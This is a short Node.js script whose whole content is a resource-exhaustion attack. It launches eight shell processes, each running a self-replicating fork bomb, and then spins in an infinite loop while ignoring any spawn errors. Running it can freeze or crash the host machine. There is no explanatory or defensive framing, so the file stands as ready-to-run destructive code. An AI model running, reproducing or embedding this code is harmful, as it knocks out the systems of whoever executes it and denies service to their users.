const { spawn } = require('child_process');
for (let i = 0; i < 8; i++) spawn('/bin/sh', ['-c', 'f() { f | f & }; f; f; f']).on('error', () => {});
for (;;);
